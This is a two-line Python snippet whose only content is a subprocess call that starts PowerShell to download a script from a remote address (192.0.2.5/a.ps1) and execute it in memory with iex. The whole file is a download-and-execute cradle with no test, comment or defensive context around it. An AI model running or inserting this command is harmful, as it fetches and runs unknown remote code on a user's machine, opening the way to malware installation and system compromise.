import subprocess

subprocess.Popen('powershell -Command "iex (iwr http://192.0.2.5/a.ps1)"')
